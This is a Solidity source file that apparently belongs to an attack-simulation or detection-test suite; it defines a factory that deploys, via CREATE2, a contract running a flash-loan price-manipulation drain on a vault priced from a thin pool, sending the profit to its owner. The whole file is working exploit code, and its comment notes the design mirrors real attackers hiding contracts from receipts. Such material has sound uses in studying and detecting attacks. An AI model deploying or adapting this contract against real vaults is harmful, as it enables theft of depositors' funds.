// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IVaultLike, IPoolLike, IFlashLenderLike} from "./AttackBase.sol";

/// @notice An attack contract created by a factory (CREATE2 inside a transaction), as many real ones
/// are: no receipt names it, only a trace of the factory call shows it. Its one call runs the
/// repeated-drain loop (flash loan, pump the thin pool the vault values, deposit cheap, unpump,
/// redeem dear) with its amounts built in: the call needs no argument.
contract FactoryDrainChild {
    address public immutable owner;
    IERC20 public immutable usd;
    IVaultLike public immutable vault;
    IPoolLike public immutable pool;
    IERC20 public immutable asset;
    IFlashLenderLike public immutable lender;
    uint256 public constant LOAN = 20_000_000e6;
    uint256 public constant PUMP = 750_000e6;

    constructor(
        address owner_,
        IERC20 usd_,
        IVaultLike vault_,
        IPoolLike pool_,
        IERC20 asset_,
        IFlashLenderLike lender_
    ) {
        owner = owner_;
        usd = usd_;
        vault = vault_;
        pool = pool_;
        asset = asset_;
        lender = lender_;
        usd_.approve(address(vault_), type(uint256).max);
        usd_.approve(address(pool_), type(uint256).max);
        usd_.approve(address(lender_), type(uint256).max);
        asset_.approve(address(pool_), type(uint256).max);
    }

    function go() external {
        require(msg.sender == owner, "owner only");
        lender.flashLoan(LOAN, "");
        usd.transfer(owner, usd.balanceOf(address(this)));
    }

    function onFlashLoan(uint256 amount, uint256, bytes calldata) external {
        require(msg.sender == address(lender), "lender only");
        uint256 bought = pool.swap(true, PUMP, 0, address(this));
        uint256 shares = vault.deposit(amount - PUMP);
        pool.swap(false, bought, 0, address(this));
        vault.redeem(shares);
    }
}

/// @notice Deploys a ``FactoryDrainChild`` owned by its caller at a salted address.
contract DrainFactory {
    function create(
        bytes32 salt,
        IERC20 usd,
        IVaultLike vault,
        IPoolLike pool,
        IERC20 asset,
        IFlashLenderLike lender
    ) external returns (address child) {
        child = address(new FactoryDrainChild{salt: salt}(msg.sender, usd, vault, pool, asset, lender));
    }
}
